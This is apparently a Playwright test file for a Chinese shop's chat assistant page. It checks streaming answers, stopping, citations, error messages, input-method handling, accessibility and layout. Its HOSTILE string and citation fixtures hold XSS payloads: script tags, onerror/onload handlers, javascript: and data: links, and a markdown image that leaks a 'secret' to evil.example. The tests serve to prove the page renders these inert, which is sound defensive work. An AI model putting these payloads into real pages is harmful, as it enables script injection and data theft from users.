"""The chat page in a real Chromium: streaming, stopping, sources, problems, and a hostile model."""

import asyncio
import re
from typing import Any

import pytest
from playwright.async_api import Browser, Page, expect

from mogine.serve.colours import palette
from tests.web.axe import violations
from tests.web.conftest import CONFIG, PHONE, Exchange, PageServer, Visit, serve_pages, visit

pytestmark = pytest.mark.asyncio(loop_scope="session")

CITATIONS = {
    "citations": [
        {
            "number": 1,
            "title": "退换货政策",
            "source": "returns.md",
            "heading": "七天无理由",
            "url": "https://shop.example/returns",
            "excerpt": "自签收次日起七日内可退货。\n\n| 情形 | 运费 |\n|---|---|\n| 质量问题 | 0 元 |",
            "score": 0.9,
        },
        {
            "number": 2,
            "title": "",
            "source": "warranty.pdf",
            "heading": "",
            "url": "javascript:alert(1)",
            "excerpt": "<img src=x onerror=alert(1)>",
            "score": 0.5,
        },
    ]
}


async def ask(v: Visit, server: PageServer, text: str = "怎么退货?") -> Exchange:
    await v.page.fill("#question", text)
    await v.page.press("#question", "Enter")
    return await server.next()


@pytest.mark.parametrize("server", ["/", "/~temp/mogine_agent/"], indirect=True)
async def test_answer_is_visible_before_its_end_under_any_prefix(
    browser: Browser, server: PageServer
) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        assert exchange.body["question"] == "怎么退货?"
        assert exchange.body["page_url"] == server.url
        assert re.fullmatch(r"[0-9a-f]{32}", exchange.body["session_id"])
        answer = v.page.locator(".answer")
        await expect(answer).to_have_attribute("aria-busy", "true")
        await exchange.delta("您可以在**七天")
        await expect(answer.locator(".prose strong")).to_have_text("七天")
        await exchange.delta("内**退货")
        await expect(answer.locator(".prose p")).to_have_text("您可以在七天内退货")
        await expect(answer).to_have_attribute("aria-busy", "true")
        await exchange.done()
        await expect(answer).not_to_have_attribute("aria-busy", "true")
        await expect(v.page.locator("#status")).to_have_text("The answer is complete.")


async def test_characters_cut_between_two_blocks_arrive_whole(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        for byte in 'event: delta\ndata: {"text": "退款😀"}\n\n'.encode():
            await exchange.send_bytes(bytes([byte]))
        await expect(v.page.locator(".prose")).to_have_text("退款😀")
        await exchange.done()


async def test_stop_closes_the_connection_and_keeps_what_came(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.delta("half an ans")
        await expect(v.page.locator(".prose")).to_have_text("half an ans")
        await v.page.get_by_role("button", name="Stop").click()
        await asyncio.wait_for(exchange.left.wait(), 5)
        await expect(v.page.locator(".prose")).to_have_text("half an ans")
        await expect(v.page.locator(".ending")).to_have_text("Stopped.")
        again = await ask(v, server, "next")
        assert again.body["session_id"] == exchange.body["session_id"]
        await again.done()


async def test_escape_stops_and_leaving_the_page_closes_the_connection(
    browser: Browser, server: PageServer
) -> None:
    async with visit(browser, server) as v:
        first = await ask(v, server)
        await v.page.keyboard.press("Escape")
        await asyncio.wait_for(first.left.wait(), 5)
        second = await ask(v, server)
        await v.page.goto("about:blank")
        await asyncio.wait_for(second.left.wait(), 5)


async def test_citation_in_the_text_opens_its_passage(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.send("citations", CITATIONS)
        await exchange.delta("七天内可退 [1],保修见 [2],无此 [9]。")
        await exchange.done()
        sources = v.page.locator(".sources details")
        await expect(sources).to_have_count(2)
        await expect(v.page.locator(".prose a.cite")).to_have_text(["1", "2"])
        await v.page.locator(".prose a.cite").first.click()
        await expect(sources.first).to_have_attribute("open", "")
        await expect(sources.first.locator("blockquote p")).to_be_visible()
        await expect(sources.first.locator("blockquote td")).to_have_text(["质量问题", "0 元"])
        await expect(sources.first.locator("a")).to_have_attribute("href", "https://shop.example/returns")
        await v.page.locator(".prose a.cite").nth(1).click()
        await expect(sources.nth(1).locator("blockquote")).to_have_text("<img src=x onerror=alert(1)>")
        await expect(sources.nth(1).locator("a")).to_have_count(0)
        await expect(sources.nth(1).locator(".name")).to_have_text("warranty.pdf")


async def test_thoughts_stay_folded_until_opened(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.send("reasoning", {"text": "先想一想。"})
        thoughts = v.page.locator(".thoughts")
        await expect(thoughts.locator("summary")).to_have_text("Thinking")
        await expect(thoughts.locator("div")).to_be_hidden()
        await thoughts.locator("summary").click()
        await expect(thoughts.locator("div")).to_have_text("先想一想。")
        await exchange.delta("好")
        await exchange.done()
        await expect(thoughts.locator("summary")).to_have_text("Thoughts")


HOSTILE = """<script>document.title = "pwned"</script>
<img src="https://evil.example/x.png" onerror="document.title = 'pwned'">
![leak](https://evil.example/leak.png?q=secret)
[click](javascript:document.title='pwned') [data](data:text/html,<script>alert(1)</script>)
<svg onload=alert(1)> <iframe src="https://evil.example"></iframe> <a href="javascript:alert(1)">x</a>
<style>body { display: none }</style> <base href="https://evil.example/">
`</code><script>alert(1)</script>`
[fine](https://e.example/"onmouseover="alert(1)) \u202ereversed
"""


async def test_hostile_answer_runs_nothing_and_loads_nothing(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        hostile_citation: dict[str, Any] = {
            "number": 1,
            **{name: HOSTILE for name in ("title", "source", "heading", "excerpt")},
            "url": "javascript:alert(1)",
        }
        exchange = await ask(v, server, HOSTILE[:150])
        await exchange.send("citations", {"citations": [hostile_citation]})
        await exchange.send("reasoning", {"text": HOSTILE})
        for start in range(0, len(HOSTILE), 7):
            await exchange.delta(HOSTILE[start : start + 7])
        await exchange.done()
        await expect(v.page.locator(".sources")).to_be_visible()
        for summary in await v.page.locator("summary").all():
            await summary.click()
        for text in ("click", "data", "x"):
            link = v.page.locator(".prose").get_by_text(text, exact=True)
            if await link.count():
                await link.first.click()
        assert await v.page.title() == "晨星助手"
        inside = (
            "#log :is(script, img, svg:not(.icon), iframe, style, base, form, [onerror], [onload], [style])"
        )
        await expect(v.page.locator(inside)).to_have_count(0)
        hrefs = await v.page.locator("#log a").evaluate_all("links => links.map((link) => link.protocol)")
        assert set(hrefs) <= {"http:", "https:", "mailto:"}
        assert "\u202e" not in (await v.page.locator(".prose").text_content() or "")


async def test_hostile_configuration_is_text(browser: Browser, server: PageServer) -> None:
    server.config = {"title": HOSTILE, "greeting": HOSTILE, "starters": [HOSTILE, 7], "ai_notice": HOSTILE}
    async with visit(browser, server) as v:
        await expect(v.page.locator("#starters button")).to_have_count(2)
        await expect(v.page.locator("#greeting")).to_contain_text("<script>")
        await expect(v.page.locator("main :is(script, img, svg:not([class]), iframe, style)")).to_have_count(
            0
        )


async def test_rate_limit_counts_down_and_asks_again(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        v.expected = ("429",)
        await v.page.clock.install()
        exchange = await ask(v, server)
        await exchange.refuse(429, "rate_limited", {"Retry-After": "12"})
        button = v.page.locator(".problem button")
        await expect(button).to_have_text("Ask again in 12 s")
        await expect(button).to_be_disabled()
        await expect(v.page.locator(".problem small")).to_have_text("Reference: req-7")
        await v.page.clock.run_for(9000)
        await expect(button).to_have_text("Ask again in 3 s")
        await v.page.clock.run_for(3250)
        await expect(button).to_have_text("Ask again")
        await button.click()
        again = await server.next()
        assert again.body == exchange.body
        await again.delta("now")
        await again.done()
        await expect(v.page.locator(".answer")).to_have_count(1)
        await expect(v.page.locator(".problem")).to_have_count(0)


@pytest.mark.parametrize(
    ("status", "reason", "words"),
    [
        (502, "upstream_refused", "The assistant cannot be reached at the moment."),
        (503, "upstream_unavailable", "The assistant cannot be reached at the moment."),
        (503, "shutting_down", "The service is busy or restarting."),
        (504, "upstream_timeout", "The answer took too long."),
        (429, "budget_exhausted", "The assistant has reached its limit for today."),
        (400, "question_too_long", "That question is too long."),
        (500, "internal_error", "Something went wrong."),
        (400, "constructor", "Something went wrong."),
    ],
)
async def test_refusal_is_told_in_plain_words(
    browser: Browser, server: PageServer, status: int, reason: str, words: str
) -> None:
    async with visit(browser, server) as v:
        v.expected = (str(status),)
        await (await ask(v, server)).refuse(status, reason)
        await expect(v.page.locator(".problem p")).to_contain_text(words)
        await expect(v.page.locator(".problem button")).to_be_enabled()


async def test_error_within_the_stream_keeps_the_text_before_it(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.delta("so far")
        error = {"message": "m", "type": "t", "code": 504, "reason": "upstream_timeout", "request_id": "q"}
        await exchange.send("error", {"error": error})
        exchange.close()
        await expect(v.page.locator(".problem p")).to_contain_text("The answer took too long.")
        await expect(v.page.locator(".prose")).to_have_text("so far")


async def test_stream_that_ends_early_or_breaks_is_told(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        v.expected = ("net::ERR",)
        first = await ask(v, server)
        await first.delta("so far")
        first.close()
        broken = "The connection broke off before the answer was complete."
        await expect(v.page.locator(".problem p")).to_have_text(broken)
        second = await ask(v, server)
        await second.delta("so far")
        await expect(v.page.locator(".prose").nth(1)).to_have_text("so far")
        second.cut()
        await expect(v.page.locator(".problem p").nth(1)).to_have_text(broken)


async def test_page_of_a_proxy_in_between_is_told_as_a_failure(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.send_bytes(b"<html><body>502 Bad Gateway</body></html>\n\n")
        exchange.close()
        await expect(v.page.locator(".problem p")).to_contain_text("broke off")


async def test_offline_is_told_and_asking_again_works(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        v.expected = ("net::ERR",)
        await v.page.context.set_offline(True)
        await v.page.fill("#question", "q")
        await v.page.press("#question", "Enter")
        await expect(v.page.locator(".problem p")).to_contain_text("You are offline.")
        await v.page.context.set_offline(False)
        await v.page.locator(".problem button").click()
        exchange = await server.next()
        assert exchange.body["question"] == "q"
        await exchange.delta("a")
        await exchange.done()
        await expect(v.page.locator(".prose")).to_have_text("a")


@pytest.mark.parametrize(
    ("reason", "ending"),
    [
        ("length", "The answer was cut at its greatest length."),
        ("content_filter", "The model's service withheld part of this answer."),
    ],
)
async def test_unusual_ending_is_told(browser: Browser, server: PageServer, reason: str, ending: str) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.delta("a")
        await exchange.done(reason)
        await expect(v.page.locator(".ending")).to_have_text(ending)


async def test_empty_answer_is_told(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        await (await ask(v, server)).done()
        await expect(v.page.locator(".ending")).to_have_text("No answer came. Please ask again.")


async def press_while_composing(page: Page, script: str) -> None:
    await page.evaluate(f"() => document.getElementById('question').dispatchEvent({script})")


async def test_enter_that_picks_a_word_of_an_input_method_does_not_send(
    browser: Browser, server: PageServer
) -> None:
    async with visit(browser, server) as v:
        await v.page.fill("#question", "tui'huo")
        for how in ("isComposing: true", "keyCode: 229"):
            await press_while_composing(
                v.page, f"new KeyboardEvent('keydown', {{key: 'Enter', bubbles: true, {how}}})"
            )
        session = await v.page.context.new_cdp_session(v.page)
        await v.page.fill("#question", "")
        await session.send("Input.imeSetComposition", {"text": "tui", "selectionStart": 3, "selectionEnd": 3})
        await v.page.keyboard.press("Enter")
        await session.send("Input.insertText", {"text": "退货"})
        await expect(v.page.locator("#question")).to_have_value(re.compile("退货"))
        assert server.waiting == 0
        await expect(v.page.locator(".turn")).to_have_count(0)
        await v.page.fill("#question", "退货")
        await v.page.press("#question", "Enter")
        exchange = await server.next()
        assert exchange.body["question"] == "退货"
        assert server.waiting == 0
        await exchange.done()


async def test_shift_enter_makes_a_line_and_blank_questions_are_not_sent(
    browser: Browser, server: PageServer
) -> None:
    async with visit(browser, server) as v:
        await expect(v.page.locator("#send")).to_be_disabled()
        await v.page.fill("#question", "  ")
        await v.page.press("#question", "Enter")
        await v.page.fill("#question", "a")
        await v.page.press("#question", "Shift+Enter")
        await v.page.keyboard.type("b")
        assert server.waiting == 0
        await v.page.press("#question", "Enter")
        exchange = await server.next()
        assert exchange.body["question"] == "a\nb"
        await exchange.done()


async def test_question_over_the_limit_is_not_sent_and_says_so(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        await expect(v.page.locator("#title")).to_have_text("晨星助手")
        await v.page.fill("#question", "字" * 201)
        await expect(v.page.locator("#limit")).to_have_text(
            "That question is too long: 201 of at most 200 characters."
        )
        await v.page.press("#question", "Enter")
        await expect(v.page.locator("#send")).to_be_disabled()
        # An emoji is one character to the server, though two units to JavaScript.
        await v.page.fill("#question", "😀" * 200)
        await expect(v.page.locator("#limit")).to_have_text("")
        await v.page.press("#question", "Enter")
        exchange = await server.next()
        assert exchange.body["question"] == "😀" * 200
        await exchange.done()


async def test_second_question_waits_for_the_first_answer(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await v.page.fill("#question", "second")
        await v.page.press("#question", "Enter")
        await expect(v.page.locator("#question")).to_have_value("second")
        await exchange.done()
        await expect(v.page.get_by_role("button", name="Send")).to_be_enabled()
        assert server.waiting == 0


async def test_new_chat_forgets_and_gets_a_new_session(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        first = await ask(v, server)
        await first.delta("x")
        await v.page.get_by_role("button", name="New chat").click()
        await asyncio.wait_for(first.left.wait(), 5)
        await expect(v.page.locator(".turn")).to_have_count(0)
        await expect(v.page.locator("#greeting")).to_be_visible()
        second = await ask(v, server)
        assert second.body["session_id"] != first.body["session_id"]
        await second.done()


@pytest.mark.parametrize(
    ("locale", "site", "lang", "placeholder"),
    [
        ("zh-CN", "auto", "zh-CN", "请输入您的问题"),
        ("en-GB", "auto", "en", "Ask a question"),
        ("fr-FR", "auto", "en", "Ask a question"),
        ("en-GB", "zh", "zh-CN", "请输入您的问题"),
        ("zh-CN", "en", "en", "Ask a question"),
    ],
)
async def test_words_follow_the_site_then_the_browser(
    browser: Browser, server: PageServer, locale: str, site: str, lang: str, placeholder: str
) -> None:
    server.config = {**CONFIG, "language": site}
    async with visit(browser, server, locale=locale) as v:
        await expect(v.page.locator("html")).to_have_attribute("lang", lang)
        await expect(v.page.get_by_placeholder(placeholder)).to_be_visible()
        await expect(v.page.locator("#notice")).to_have_text("回答由人工智能生成，仅供参考。")
        assert await v.page.title() == "晨星助手"


async def test_page_works_without_its_configuration(browser: Browser, server: PageServer) -> None:
    server.config = None
    async with visit(browser, server) as v:
        v.expected = ("502",)
        await expect(v.page.locator("#greeting")).to_contain_text("Hello!")
        exchange = await ask(v, server)
        await exchange.delta("a")
        await exchange.done()
        await expect(v.page.locator(".prose")).to_have_text("a")


async def test_starter_question_is_asked_by_keyboard_alone(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server) as v:
        await expect(v.page.locator("#question")).to_be_focused()
        await expect(v.page.locator("#starters button")).to_have_count(2)
        await v.page.keyboard.press("Shift+Tab")
        await expect(v.page.locator("#starters button").nth(1)).to_be_focused()
        await v.page.keyboard.press("Enter")
        exchange = await server.next()
        assert exchange.body["question"] == "How long is the warranty?"
        await exchange.done()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 1280])
async def test_nothing_overflows_and_text_has_contrast(
    browser: Browser, server: PageServer, scheme: Any, width: int
) -> None:
    wide = "| a | b | c | d |\n|-|-|-|-|\n|" + " averylongwordinacell |" * 4 + "\n\n`" + "x" * 300 + "`"
    async with visit(browser, server, color_scheme=scheme, viewport={"width": width, "height": 640}) as v:
        exchange = await ask(v, server, "w" * 150)
        await exchange.send("citations", CITATIONS)
        await exchange.send("reasoning", {"text": "t"})
        await exchange.delta(wide + "\n\n" + "https://e.com/" + "y" * 300 + " [1]")
        await exchange.done()
        await expect(v.page.locator(".sources")).to_be_visible()
        for box in ("html", ".scroller"):
            assert await v.page.locator(box).evaluate("(e) => e.scrollWidth <= e.clientWidth"), box
        low = await v.page.evaluate(LOW_CONTRAST)
        assert low == []


LOW_CONTRAST = """() => {
  const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((c) => c / 255)
    .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
    .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const color = rgb(getComputedStyle(at).backgroundColor);
      if (color.length < 4 || color[3] === 1) return color;
    }
    return [255, 255, 255];
  };
  const texts = [...document.querySelectorAll("body *")].filter((node) =>
    node.checkVisibility() && [...node.childNodes].some((c) => c.nodeType === 3 && c.data.trim()));
  return texts.map((node) => {
    const [a, b] = [light(rgb(getComputedStyle(node).color)), light(behind(node))].sort((x, y) => y - x);
    return [node.className || node.tagName, (a + 0.05) / (b + 0.05)];
  }).filter(([, ratio]) => ratio < 4.5);
}"""


async def test_reader_who_scrolls_up_is_left_in_peace(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server, viewport={"width": 800, "height": 500}) as v:
        exchange = await ask(v, server)
        await exchange.delta("line\n\n" * 60)
        await expect(v.page.locator(".prose p")).to_have_count(60)
        at_end = "(e) => e.scrollHeight - e.scrollTop - e.clientHeight < 2"
        assert await v.page.locator(".scroller").evaluate(at_end)
        await v.page.locator(".scroller").evaluate("(e) => { e.scrollTop = 0; }")
        await expect(v.page.locator("#latest")).to_be_visible()
        await exchange.delta("more\n\n" * 10)
        await expect(v.page.locator(".prose p")).to_have_count(70)
        assert await v.page.locator(".scroller").evaluate("(e) => e.scrollTop") == 0
        await v.page.locator("#latest").click()
        assert await v.page.locator(".scroller").evaluate(at_end)
        await expect(v.page.locator("#latest")).to_be_hidden()
        await exchange.done()


async def test_print_has_the_whole_conversation_and_nothing_to_press(
    browser: Browser, server: PageServer
) -> None:
    async with visit(browser, server) as v:
        exchange = await ask(v, server)
        await exchange.delta("\n\n".join(f"line {n}" for n in range(200)))
        await exchange.done()
        await expect(v.page.locator(".prose p")).to_have_count(200)
        await v.page.emulate_media(media="print")
        for gone in ("#composer", "#side", ".actions", "#fresh"):
            await expect(v.page.locator(gone)).to_be_hidden()
        inside = "(e) => e.getBoundingClientRect().bottom <= document.documentElement.scrollHeight"
        assert await v.page.locator(".prose p").last.evaluate(inside), "nothing is cut off"
        assert (await v.page.pdf()).count(b"/Type /Page\n") > 3


async def test_without_javascript_the_page_says_what_it_needs(browser: Browser, server: PageServer) -> None:
    async with visit(browser, server, java_script_enabled=False) as v:
        await expect(v.page.locator("#plain label")).to_contain_text("Your question")
        await expect(v.page.locator("#composer")).to_be_hidden()


async def test_two_pages_do_not_disturb_each_other(browser: Browser) -> None:
    async with serve_pages("/a/b/") as server, visit(browser, server) as one, visit(browser, server) as two:
        first, second = await ask(one, server), await ask(two, server)
        assert first.body["session_id"] != second.body["session_id"]
        await second.delta("two")
        await first.delta("one")
        await expect(one.page.locator(".prose")).to_have_text("one")
        await expect(two.page.locator(".prose")).to_have_text("two")
        await first.done()
        await second.done()


@pytest.mark.parametrize("phone", [False, True])
async def test_no_state_breaks_a_rule_of_accessibility_or_overflows(
    browser: Browser, server: PageServer, phone: bool
) -> None:
    options = {"reduced_motion": "reduce", **(PHONE if phone else {})}
    assert server.config is not None
    server.config["colours"] = palette("#0b6e75")
    async with visit(browser, server, **options) as v:
        v.expected = ("429",)
        found: dict[str, list[str]] = {}

        async def judge(state: str) -> None:
            found[state] = await violations(v.page)
            assert await v.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), state

        await expect(v.page.locator("#starters button")).to_have_count(2)
        await judge("empty")
        exchange = await ask(v, server)
        await exchange.send("start", {"request_id": "r" * 44, "session_id": "s" * 32})
        await exchange.send("citations", CITATIONS)
        await exchange.send("reasoning", {"text": "hm"})
        await exchange.delta(f"| a | b |\n|-|-|\n| 1 | 2 [1] |\n\n`{'long' * 60}`\n\n{'wide' * 60}")
        await expect(v.page.locator(".prose table")).to_be_visible()
        await judge("writing")
        await exchange.done("stop", "no")
        await expect(v.page.locator(".handoff")).to_be_visible()
        await v.page.locator(".cite").click()
        await v.page.get_by_role("button", name="Not helpful").click()
        await expect(v.page.locator(".rating form")).to_be_visible()
        await judge("answered")
        await (await ask(v, server)).refuse(429, "rate_limited", {"Retry-After": "60"})
        await expect(v.page.locator(".problem")).to_be_visible()
        await judge("refused")
        if phone:
            await v.page.get_by_role("button", name="conversations").click()
            await expect(v.page.locator("#conversations button")).to_be_focused()
            await judge("list")
            await v.page.keyboard.press("Escape")
            await expect(v.page.get_by_role("button", name="conversations")).to_be_focused()
            await v.page.keyboard.press("Enter")
            await v.page.touchscreen.tap(360, 400)
            await expect(v.page.locator("#side")).to_be_hidden()
            await expect(v.page.locator("#question")).to_be_enabled()
        assert {state: broken for state, broken in found.items() if broken} == {}


async def test_form_without_javascript_breaks_no_rule_of_accessibility(
    browser: Browser, server: PageServer
) -> None:
    # The rules are a script: they look at a page whose own script does not come.
    async with visit(browser, server) as v:
        await v.page.route("**/page.js*", lambda route: route.fulfill(content_type="text/javascript"))
        await v.page.reload()
        await expect(v.page.locator("#plain-question")).to_be_visible()
        assert await violations(v.page) == []


@pytest.mark.parametrize("width", [1180, 1280, 1600])
async def test_sources_list_and_field_stay_in_their_places_whatever_their_words(
    browser: Browser, server: PageServer, width: int
) -> None:
    options: dict[str, Any] = {"viewport": {"width": width, "height": 860}, "reduced_motion": "reduce"}
    async with visit(browser, server, **options) as v:
        exchange = await ask(v, server, "How long is the warranty of the " + "S800 under-sink purifier " * 5)
        long = {"title": "S600 / S800 " * 9, "heading": "filter and trouble guide > " * 9}
        await exchange.send("citations", {"citations": [{**CITATIONS["citations"][0], **long}]})
        await exchange.delta("Three years [1].")
        await exchange.done()
        await expect(v.page.locator(".actions")).to_be_visible()
        edges = """(selector) => [...document.querySelectorAll(selector)].map((e) => {
            const box = e.getBoundingClientRect();
            return [Math.round(box.left), Math.round(box.right)];
        })"""
        ((list_left, list_right),) = await v.page.evaluate(edges, "#side")
        for left, right in await v.page.evaluate(edges, "#conversations button, #conversations span"):
            assert list_left <= left <= right <= list_right
        ((answer_left, answer_right),) = await v.page.evaluate(edges, ".prose")
        for left, right in await v.page.evaluate(edges, ".sources details, .sources summary > *"):
            assert answer_right <= left <= right <= width
        ((left, right),) = await v.page.evaluate(edges, "#composer")
        assert list_right <= left <= answer_left and answer_right <= right <= answer_right + 40
